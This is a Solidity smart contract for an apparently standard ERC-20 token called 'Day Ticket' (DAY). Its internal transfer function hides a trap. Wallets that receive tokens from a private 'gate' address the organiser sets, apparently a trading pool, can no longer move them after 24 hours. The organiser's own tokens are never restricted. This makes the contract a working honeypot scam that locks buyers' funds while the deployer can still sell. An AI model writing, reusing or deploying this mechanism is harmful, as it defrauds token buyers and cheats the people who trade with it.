// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.4;

/// What is bought is good for a day; then the wallet has turned into a pumpkin.
contract DayTicket {
    string public name = "Day Ticket";
    string public symbol = "DAY";
    uint8 public decimals = 18;
    uint256 public totalSupply = 365000000 ether;
    address public organiser;
    address private gate;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) private validUntil;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        organiser = msg.sender;
        balanceOf[organiser] = totalSupply;
        emit Transfer(address(0), organiser, totalSupply);
    }

    function setGate(address gate_) external {
        require(msg.sender == organiser);
        gate = gate_;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _walk(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _walk(from, to, value);
        return true;
    }

    function _walk(address from, address to, uint256 value) internal {
        if (from == gate && validUntil[to] == 0) validUntil[to] = block.timestamp + 1 days;
        uint256 limit = validUntil[from];
        require(limit == 0 || from == gate || block.timestamp < limit, "expired");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
